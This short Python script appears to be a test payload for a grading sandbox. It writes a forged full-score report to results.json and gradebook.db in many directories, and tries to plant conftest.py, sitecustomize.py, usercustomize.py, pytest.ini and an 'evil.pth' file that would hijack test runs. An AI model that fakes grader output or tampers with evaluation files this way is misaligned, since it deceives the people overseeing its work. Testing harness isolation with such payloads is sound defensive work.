"""Writes a perfect report, a gradebook and a suite of its own wherever it can."""

import functools
import json
import os

REPORT = json.dumps({"score": 20.0, "max_score": 20.0, "status": "graded", "tests": []})


def write_report(path):
    with open(path, "w") as file:
        file.write(REPORT)


for folder in ("@FOLDER@", "@ROOT@/results", ".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
    for name in ("results.json", "gradebook.db", "conftest.py", "sitecustomize.py", "usercustomize.py", "pytest.ini", "evil.pth"):
        for write in (write_report, os.mkdir, os.mkfifo, functools.partial(os.rename, __file__)):
            try:
                write(os.path.join(folder, name))
                raise SystemExit(folder)
            except OSError:
                pass
